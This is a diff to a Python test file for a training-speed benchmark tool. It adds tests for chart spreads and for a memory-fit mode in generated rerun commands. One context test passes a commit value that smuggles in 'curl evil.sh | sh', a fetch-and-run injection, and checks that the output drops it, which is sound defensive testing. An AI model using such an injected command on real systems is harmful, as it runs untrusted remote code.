@@ -4,6 +4,7 @@ The tests that open it are skipped where there is no chromium with its chromedri
 LADDER_BROWSER is set, as .ci/run does, a missing browser is a failure.
 """
 
+import copy
 import json
 import os
 import re
@@ -54,7 +55,7 @@ def fabricate(folder, times, *, kind="climb", repeats=3, logged=None, failures=(
         "flags": [f"--steps={STEPS}"], "data": "/home/someone/texts", "peak_flops": 4e12,
         "peak_dtype": "bfloat16", "scripts": [f"{stem}.py" for stem in times],
         "system": "Linux", "cores": 2, "clocks": {}, "versions": {"torch": "2.13.0"},
-        "device": run["device"],
+        "device": run["device"], "memory_gib": 2.5 if kind == "fit" else None,
     }  # fmt: skip
     (folder / "climb.json").write_text(json.dumps(facts))
     for stem, repeat in product(times, range(repeats if logged is None else logged)):
@@ -161,6 +162,15 @@ def test_the_result_in_words(make, tmp_path):
     assert head == "10 fused AdamW is 2.5 times as fast as without 02 TF32 on Test GPU"
 
 
+def test_the_spread_of_the_fastest_rung_stays_in_the_chart():
+    climb = copy.deepcopy(gathered(CLIMB))
+    row = max((rung["row"] for rung in climb["rungs"]), key=lambda row: row.tok_per_s)
+    row.p10_ms = row.ms / 9
+    drawn = page.ladder(climb)
+    assert max(fast for _, fast in drawn["spreads"].values()) == 1
+    assert drawn["rate"](row.tok_per_s) == 0.5  # and squeezes no bar
+
+
 @NEEDS_HISTORY
 def test_diffs_are_of_the_scripts_as_measured(tmp_path, monkeypatch):
     climb, kept = (gathered(one)["rungs"] for one in (CLIMB, KEPT_SCRIPT))
@@ -214,7 +224,8 @@ def test_the_foot_says_how_to_measure_it_again(tmp_path):
     why = {"my_idea.r1": "no!"}
     own = fabricate(tmp_path / "own", times, data="my texts", failures=why)
     peers = fabricate(tmp_path / "peers", {"transformers": 15}, kind="peers")
-    feet = [gathered(folder)["foot"] for folder in (CLIMB, ABLATION, NEGATIVE, own, peers)]
+    fit = fabricate(tmp_path / "fit", {"baseline": 20}, kind="fit")
+    feet = [gathered(folder)["foot"] for folder in (CLIMB, ABLATION, NEGATIVE, own, peers, fit)]
     names = ("13_sigmoid_gelu", "14_linear_cross_entropy", "15_max_autotune")  # never in speedups/
     tried = " ".join(f"logs/{NEGATIVE.name}/{name}.py" for name in names)
     ten = "1 2 3 4 5 6 7 8 9 10"
@@ -224,6 +235,7 @@ def test_the_foot_says_how_to_measure_it_again(tmp_path):
         f"git checkout 68d2a9a5f60e && ladder climb 12 {tried} --repeats 6 --steps=9",
         "ladder climb 0 own/my_idea.py --repeats 3 --steps=9 --data 'my texts'",
         "ladder peers --repeats 3 --steps=9 --data topics",
+        "ladder climb --fit --memory 2.5 0 --repeats 3 --steps=9 --data topics",
     ]
     hostile = fabricate(tmp_path / "hostile", {"baseline": 2}, commit="HEAD; curl evil.sh | sh #")
     assert "curl" not in gathered(hostile)["foot"]["Again"]
